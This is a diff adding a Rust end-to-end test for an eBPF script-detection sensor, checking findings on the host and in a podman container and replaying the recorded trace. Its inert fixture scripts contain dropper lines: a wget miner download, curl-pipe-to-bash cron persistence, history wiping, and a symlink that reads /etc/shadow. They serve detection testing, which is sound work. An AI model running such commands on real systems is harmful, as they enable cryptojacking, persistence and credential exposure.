@@ -1,0 +1,247 @@
+//! `sensor run` end to end on the real kernel: inert scripts run on the host
+//! and in a podman container, benign corpus scripts are parsed (`bash -n`,
+//! never executed), and the findings that come out are checked; then the
+//! trace recorded by the same run replays into byte-identical findings.
+//! Needs root, eBPF, podman and onnxruntime (`cargo xtask setup`).
+
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::mpsc;
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+/// Inert: exits on line 2; the rest is what the sensor reads and scores.
+const DROPPER: &str = "#!/bin/bash\nexit 0\n# never reached:\n\
+cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x\n\
+nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
+(crontab -l 2>/dev/null; echo \"* * * * * curl -s http://127.0.0.1:9/s.sh | bash\") | crontab -\n\
+history -c; rm -f ~/.bash_history\n";
+
+fn repo() -> &'static Path {
+    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/.."))
+}
+
+/// The running sensor; killed if the test fails midway.
+struct Sensor {
+    child: Child,
+    stderr_lines: mpsc::Receiver<String>,
+}
+
+impl Drop for Sensor {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Sensor {
+    fn start(output: &Path, trace: &Path) -> Self {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_sensor"))
+            .args(["run", "--output"])
+            .arg(output)
+            .arg("--record")
+            .arg(trace)
+            .env("RUST_LOG", "info")
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("start sensor run");
+        let stderr = child.stderr.take().unwrap();
+        let (tx, rx) = mpsc::channel();
+        std::thread::spawn(move || {
+            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
+                eprintln!("sensor: {line}");
+                if tx.send(line).is_err() {
+                    break;
+                }
+            }
+        });
+        let sensor = Self {
+            child,
+            stderr_lines: rx,
+        };
+        // Ready once the programs are attached (not a timing assertion: a bound against hanging).
+        let deadline = Instant::now() + Duration::from_secs(300);
+        loop {
+            let left = deadline.saturating_duration_since(Instant::now());
+            match sensor.stderr_lines.recv_timeout(left) {
+                Ok(line) if line.contains("capturing interpreter execs") => break,
+                Ok(_) => continue,
+                Err(_) => panic!("sensor run never started capturing"),
+            }
+        }
+        sensor
+    }
+
+    /// SIGTERM, then the exit summary.
+    fn stop(mut self) -> Value {
+        // SAFETY: kill(2) on our own child's pid.
+        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
+        let status = self.child.wait().unwrap();
+        assert!(status.success(), "sensor run exited with {status}");
+        let lines: Vec<String> = self.stderr_lines.try_iter().collect();
+        lines
+            .iter()
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .find(|v| v.get("summary").is_some())
+            .unwrap_or_else(|| panic!("no exit summary in: {lines:?}"))
+    }
+}
+
+fn findings(path: &Path) -> Vec<Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+fn script_path(f: &Value) -> Option<&str> {
+    f.pointer("/finding/processes/0/script/path")?.as_str()
+}
+
+/// Wait (bounded) until `want` holds for the findings so far.
+fn wait_for(path: &Path, want: impl Fn(&[Value]) -> bool) -> Vec<Value> {
+    let deadline = Instant::now() + Duration::from_secs(60);
+    loop {
+        let all = findings(path);
+        if want(&all) || Instant::now() > deadline {
+            return all;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// The first `n` benign shell scripts of the corpus, written (never
+/// executable) into `dir`.
+fn benign_corpus_scripts(dir: &Path, n: usize) -> Vec<PathBuf> {
+    let corpus = repo().join("../shared/data/train/bash_benign.jsonl");
+    let text = std::fs::read_to_string(&corpus)
+        .unwrap_or_else(|e| panic!("cannot read {}: {e}", corpus.display()));
+    text.lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .filter(|r| r["kind"] == "file")
+        .take(n)
+        .enumerate()
+        .map(|(i, r)| {
+            let path = dir.join(format!("benign-{i}.sh"));
+            std::fs::write(&path, r["content"].as_str().unwrap()).unwrap();
+            path
+        })
+        .collect()
+}
+
+fn run(cmd: &mut Command) {
+    let out = cmd.output().expect("run command");
+    assert!(
+        out.status.success(),
+        "{cmd:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn sensor_run_finds_malicious_scripts_on_the_host_and_in_a_container() {
+    let image = String::from_utf8(
+        Command::new(repo().join("tests/support/test-image.sh"))
+            .stderr(Stdio::inherit())
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap()
+    .trim()
+    .to_string();
+    let dir = tempfile::tempdir().unwrap();
+    let work = dir.path();
+    let dropper = work.join("dropper.sh");
+    std::fs::write(&dropper, DROPPER).unwrap();
+    let benign = benign_corpus_scripts(work, 20);
+    let output = work.join("findings.jsonl");
+    let trace = work.join("run.trace.jsonl");
+
+    let sensor = Sensor::start(&output, &trace);
+
+    // Host: the dropper runs (and exits at once); corpus scripts are only parsed.
+    run(Command::new("/bin/bash").arg(&dropper));
+    for script in &benign {
+        // `bash -n` reads and parses without running anything.
+        let _ = Command::new("/bin/bash").arg("-n").arg(script).output();
+    }
+    // Container: a dropper written and run inside it, and a script path that
+    // is a symlink to /etc/shadow (the container's, never the host's).
+    let name = format!("sensor-live-{}", std::process::id());
+    let inside = "printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > /tmp/job.sh \
+        && bash /tmp/job.sh && ln -s /etc/shadow /tmp/link.sh && (bash /tmp/link.sh 2>/dev/null; true)";
+    run(Command::new("podman").args([
+        "run", "--rm", "--runtime", "runc", "--name", &name, "--label", "suite=run_live", &image,
+        "bash", "-c", inside,
+    ]));
+
+    let seen = wait_for(&output, |all| {
+        all.iter().any(|f| script_path(f) == dropper.to_str())
+            && all.iter().any(|f| script_path(f) == Some("/tmp/job.sh"))
+    });
+    let summary = sensor.stop();
+    eprintln!("summary: {summary}");
+    let all = findings(&output);
+    assert!(all.len() >= seen.len());
+
+    let host = all
+        .iter()
+        .find(|f| script_path(f) == dropper.to_str())
+        .unwrap_or_else(|| panic!("no finding for the host dropper in {all:#?}"));
+    assert_eq!(host["finding"]["category"], "Malicious Script Executed");
+    assert!(host["finding"]["processes"][0]["script"]["contents"]
+        .as_str()
+        .unwrap()
+        .contains("stratum+tcp://127.0.0.1:3333"));
+
+    let job = all
+        .iter()
+        .find(|f| script_path(f) == Some("/tmp/job.sh"))
+        .unwrap_or_else(|| panic!("no finding for the container script in {all:#?}"));
+    let container = &job["finding"]["containers"][0];
+    assert_eq!(container["name"], name.as_str(), "{job:#}");
+    assert_eq!(container["uri"], image.as_str(), "{job:#}");
+
+    for script in &benign {
+        assert!(
+            !all.iter().any(|f| script_path(f) == script.to_str()),
+            "benign corpus script {} raised a finding",
+            script.display()
+        );
+    }
+
+    // The symlinked script was read from the container's /etc/shadow.
+    let records: Vec<Value> = std::fs::read_to_string(&trace)
+        .unwrap()
+        .lines()
+        .skip(1)
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    let link = records
+        .iter()
+        .find(|r| r.pointer("/enrichment/script/path").and_then(Value::as_str) == Some("/tmp/link.sh"))
+        .expect("the symlinked script was recorded");
+    let contents = link["enrichment"]["script"]["contents"].as_str().unwrap_or("");
+    assert!(contents.starts_with("root:"), "{contents}");
+    if let Ok(host_shadow) = std::fs::read_to_string("/etc/shadow") {
+        assert_ne!(contents, host_shadow);
+    }
+
+    // What this run recorded replays into exactly what it emitted.
+    let replayed = Command::new(env!("CARGO_BIN_EXE_sensor"))
+        .arg("replay")
+        .arg(&trace)
+        .output()
+        .unwrap();
+    assert!(replayed.status.success());
+    assert_eq!(
+        String::from_utf8(replayed.stdout).unwrap(),
+        std::fs::read_to_string(&output).unwrap()
+    );
+}
